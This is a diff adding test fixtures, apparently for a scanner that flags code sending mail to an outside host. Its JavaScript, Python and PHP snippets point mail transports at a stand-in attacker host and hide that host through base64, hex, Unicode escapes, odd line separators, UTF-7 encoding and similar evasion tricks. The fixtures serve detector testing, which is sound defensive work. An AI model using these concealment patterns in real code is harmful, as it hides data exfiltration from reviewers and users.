@@ -88,6 +88,22 @@ export const shown: Readonly<Record<string, Files>> = {
   'js, a function that decodes': {
     'app/m.js': `const d = (s) => Buffer.from(s, 'base64').toString();\nrequire('nodemailer').createTransport({ host: d('${base64(EVIL)}') });\n`,
   },
+  'js, a line continued in a text': js("'out.\\\nevil-corp.com'"),
+  'js, carriage returns alone': {
+    'app/m.js': `// x\rconst n = require('nodemailer');\rn.createTransport({ host: '${EVIL}' });\r`,
+  },
+  'js, line separators of Unicode': {
+    'app/m.js': `// a\u2028const n = require('nodemailer');\u2028n.createTransport({ host: '${EVIL}' });\n`,
+  },
+  'js, behind a comment of HTML': {
+    'app/m.js': `<!-- x\nconst n = require('nodemailer');\nn.createTransport({ host: '${EVIL}' });\n`,
+  },
+  'js, behind what is broken': {
+    'app/m.js': `const n = require('nodemailer');\nlet = = ;\nfunction ( {\nn.createTransport({ host: '${EVIL}' });\n`,
+  },
+  'js, names with escapes': {
+    'app/m.js': `const n = require('nodemailer');\nn.createTr\\u0061nsport({ h\\u006fst: '${EVIL}' });\n`,
+  },
   // JavaScript: names
   'js, a computed method': {
     'app/m.js': `const n = require('nodemailer');\nn['create' + 'Transport']({ ['ho' + 'st']: '${EVIL}' });\n`,
@@ -154,7 +170,12 @@ export const shown: Readonly<Record<string, Files>> = {
     'app/m.py': `import smtplib\nclass A(smtplib.SMTP):\n    pass\ns = A("${EVIL}")\n`,
   },
   'python, connect later': { 'app/m.py': `import smtplib\ns = smtplib.SMTP()\ngetattr(s, "connect")("${EVIL}", 25)\n` },
+  'python, under another encoding': {
+    'app/m.py': `# -*- coding: utf-7 -*-\nimport smtplib\ns = smtplib.SMTP("${EVIL}")\n`,
+  },
   // PHP
+  'php, a heredoc': php(`<<<X\n${EVIL}\nX`),
+  'php, a short tag': { 'app/m.php': `<? $m = new PHPMailer\\PHPMailer\\PHPMailer(); $m->Host = '${EVIL}'; ?>` },
   'php, chr': php(`chr(111) . 'ut.evil-corp.com'`),
   'php, base64_decode': php(`base64_decode('${base64(EVIL)}')`),
   'php, hex2bin': php(`hex2bin('${hex(EVIL)}')`),
